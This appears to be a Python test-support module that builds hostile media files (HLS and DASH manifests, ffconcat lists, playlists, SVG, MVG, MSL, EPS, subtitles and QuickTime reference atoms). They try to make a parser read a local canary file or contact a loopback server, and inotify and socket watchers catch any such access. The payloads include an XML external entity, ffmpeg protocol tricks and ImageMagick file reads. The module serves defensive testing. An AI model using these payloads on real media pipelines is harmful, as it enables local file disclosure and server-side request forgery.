"""Files that try to make whoever opens them read another file or open a connection, and watches that see it."""

import base64
import ctypes
import os
import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

IN_ACCESS, IN_OPEN = 0x1, 0x20


class FileWatch:
    """Counts how often files are opened or read, by any process of this machine (inotify)."""

    def __init__(self, *paths: Path) -> None:
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._descriptor = self._libc.inotify_init1(os.O_NONBLOCK)
        assert self._descriptor >= 0, os.strerror(ctypes.get_errno())
        for path in paths:
            watch = self._libc.inotify_add_watch(self._descriptor, os.fsencode(path), IN_OPEN | IN_ACCESS)
            assert watch >= 0, os.strerror(ctypes.get_errno())

    def count(self) -> int:
        """Events since the last call."""
        total = 0
        while True:
            try:
                total += len(os.read(self._descriptor, 2**16)) // 16
            except BlockingIOError:
                return total

    def close(self) -> None:
        os.close(self._descriptor)


class Listener:
    """A server on loopback that counts connections and closes them."""

    def __init__(self) -> None:
        self.connections = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(10)


@dataclass
class Watched:
    """A secret that no file may lead to."""

    folder: Path
    canary: Path
    """A whole video with sound: who follows a reference to it gets clips."""
    listener: Listener
    files: FileWatch

    def touches(self) -> list[str]:
        """What happened to the secret since the last call."""
        seen = []
        if events := self.files.count():
            seen.append(f"the canary was opened or read ({events} events)")
        if self.listener.connections:
            seen.append(f"{self.listener.connections} connections")
            self.listener.connections = 0
        return seen

    def check(self, what: object) -> None:
        """Fails if the secret was touched since the last check."""
        seen = self.touches()
        assert not seen, f"{what}: {seen}"


@contextmanager
def watched(folder: Path, canary: Path) -> Iterator[Watched]:
    """Watches over `canary`."""
    listener, files = Listener(), FileWatch(canary)
    try:
        yield Watched(folder=folder, canary=canary, listener=listener, files=files)
    finally:
        files.close()
        listener.close()


def atom(kind: bytes, *parts: bytes) -> bytes:
    """One atom of a QuickTime file."""
    body = b"".join(parts)
    return struct.pack(">I4s", len(body) + 8, kind) + body


def with_reference(video: bytes, reference: bytes) -> bytes:
    """An mp4 whose tracks lie in another file: each `dref` entry is replaced, and all that contains it grows."""
    at = video.index(b"dref") - 4
    size = struct.unpack(">I", video[at : at + 4])[0]
    entry = atom(b"dref", bytes(4), struct.pack(">I", 1), reference)
    changed = bytearray(video)
    while at >= 0:
        changed[at : at + size] = entry
        grown = len(entry) - size
        for kind in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):
            parent = bytes(changed).rfind(kind, 0, at) - 4
            length = struct.unpack(">I", changed[parent : parent + 4])[0]
            changed[parent : parent + 4] = struct.pack(">I", length + grown)
        at = bytes(changed).find(b"dref", at + len(entry)) - 4
        if at >= 0:
            size = struct.unpack(">I", changed[at : at + 4])[0]
    return bytes(changed)


def alias(path: Path) -> bytes:
    """Entry of a `dref` atom that names a file as old Mac systems did; libav reads volume, name, levels and type 2."""
    name = path.name.encode()[:63]
    record = bytes(10) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    record += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    record += struct.pack(">hh", 1, 1) + bytes(16)
    absolute = str(path).encode()
    for kind, data in ((2, b"disk:" + absolute.strip(b"/").replace(b"/", b":")), (18, absolute)):
        record += struct.pack(">hh", kind, len(data)) + data + b"\0" * (len(data) % 2)
    record += struct.pack(">hh", -1, 0)
    return atom(b"alis", bytes(4), record)


def attacks(canary: Path, url: str, port: int, video: bytes) -> dict[str, bytes]:
    """Contents of hostile files by name.

    Args:
        canary: what they want to be read.
        url: of a server that they want to be asked.
        port: its port.
        video: a whole mp4.
    """
    path = str(canary)
    hls = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:4\n#EXT-X-MEDIA-SEQUENCE:0\n"
    end = "#EXT-X-ENDLIST\n"
    key = "0" * 32
    image = base64.b64encode(b"<svg/>").decode()
    texts = {
        "hls-file": f"{hls}#EXTINF:4,\nfile://{path}\n{end}",
        "hls-path": f"{hls}#EXTINF:4,\n{path}\n{end}",
        "hls-relative": f"{hls}#EXTINF:4,\n{canary.name}\n{end}",
        "hls-http": f"{hls}#EXTINF:4,\n{url}/a.ts\n{end}",
        "hls-https": f"{hls}#EXTINF:4,\nhttps://127.0.0.1:{port}/a.ts\n{end}",
        "hls-nested": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{url}/a.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=2\n{path}\n",
        "hls-key": f'{hls}#EXT-X-KEY:METHOD=AES-128,URI="{url}/key",IV=0x{key}\n#EXTINF:4,\n{path}\n{end}',
        "hls-key-file": f'{hls}#EXT-X-KEY:METHOD=AES-128,URI="{path}",IV=0x{key}\n#EXTINF:4,\n{path}\n{end}',
        "hls-map": f'{hls}#EXT-X-MAP:URI="{path}"\n#EXTINF:4,\n{url}/a.m4s\n{end}',
        "hls-media": f'#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{url}/a.m3u8"\n'
        f'#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{path}\n',
        "hls-concat": f"{hls}#EXTINF:4,\nconcat:{path}|{path}\n{end}",
        "hls-crypto": f"{hls}#EXTINF:4,\ncrypto+file://{path}\n{end}",
        "hls-subfile": f"{hls}#EXTINF:4,\nsubfile,,start,0,end,0,,:{path}\n{end}",
        "hls-gopher": f"{hls}#EXTINF:4,\ngopher://127.0.0.1:{port}/1\n{end}",
        "hls-tcp": f"{hls}#EXTINF:4,\ntcp://127.0.0.1:{port}\n{end}",
        "concat": f"ffconcat version 1.0\nfile '{path}'\n",
        "concat-relative": f"ffconcat version 1.0\nfile '{canary.name}'\n",
        "concat-http": f"ffconcat version 1.0\nfile '{url}/a.mp4'\n",
        "concat-options": f"ffconcat version 1.0\nfile 'file:{path}'\noption protocol_whitelist file,http,tcp\n"
        f"file '{url}/a.mp4'\noption safe 0\n",
        "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT4S" minBufferTime="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        f'<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>file://{path}'
        f'</BaseURL></Representation><Representation id="2" bandwidth="2"><BaseURL>{url}/a.mp4</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>",
        "dash-entity": f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://{path}">]>'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period>&x;</Period></MPD>',
        "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nt=0 0\n"
        f"m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\na=control:rtsp://127.0.0.1:{port}/\n",
        "m3u": f"#EXTM3U\n#EXTINF:1,a\n{url}/a.mp4\n{path}\n",
        "pls": f"[playlist]\nNumberOfEntries=2\nFile1={url}/a.mp3\nFile2={path}\nVersion=2\n",
        "asx": f'<asx version="3.0"><entry><ref href="{url}/a.asf"/></entry><entry><ref href="file://{path}"/></entry></asx>',
        "ram": f"{url}/a.rm\nfile://{path}\n",
        "rtsp-text": f"RTSPtext\nrtsp://127.0.0.1:{port}/a.mov\n",
        "mov-redirect": "",
        "smil": f'<smil><body><video src="{url}/a.mp4"/><video src="{path}"/></body></smil>',
        "xspf": f'<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>{url}/a</location>'
        f"</track><track><location>file://{path}</location></track></trackList></playlist>",
        "cue": f'FILE "{path}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "imf": f'<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><AssetList><Asset>'
        f"<ChunkList><Chunk><Path>{path}</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>",
        "svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64">'
        f'<image xlink:href="file://{path}" width="64" height="64"/><image xlink:href="{url}/a.png"/></svg>',
        "mvg": f"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'url({url}/a.jpg)'\n"
        f"image over 0,0 0,0 'text:{path}'\npop graphic-context\n",
        "msl": f'<?xml version="1.0"?><image><read filename="{path}"/><read filename="{url}/a.png"/></image>',
        "eps": "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n"
        f"({path}) (r) file 1024 string readstring\n%%EOF\n",
        "vobsub": "# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\n"
        "id: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n",
        "srt": f"1\n00:00:00,000 --> 00:00:04,000\n<img src='{url}/a.png'>{path}\n",
        "ass": f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {path}\n[Events]\n"
        "Dialogue: 0,0:00:00.00,0:00:04.00,,,,,,,a\n",
        "avisynth": f'AviSource("{path}")\n',
        "vapoursynth": f"import vapoursynth\nopen({path!r}).read()\n",
        "ffmetadata": f";FFMETADATA1\ntitle=a\n[STREAM]\nfile={path}\n",
        "subfile": f"subfile,,start,0,end,0,,:{path}",
        "data": f"data:image/svg+xml;base64,{image}",
    }
    files = {name: text.encode() for name, text in texts.items()}
    address = f"{url}/a.mp4\0".encode()
    reference = atom(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(address)), address)
    files["mov-redirect"] = atom(b"moov", atom(b"rmra", atom(b"rmda", reference)))
    files["mov-url-file"] = with_reference(video, atom(b"url ", bytes(4), f"file://{path}\0".encode()))
    files["mov-url-http"] = with_reference(video, atom(b"url ", bytes(4), f"{url}/a.mp4\0".encode()))
    files["mov-alias"] = with_reference(video, alias(canary))
    return files
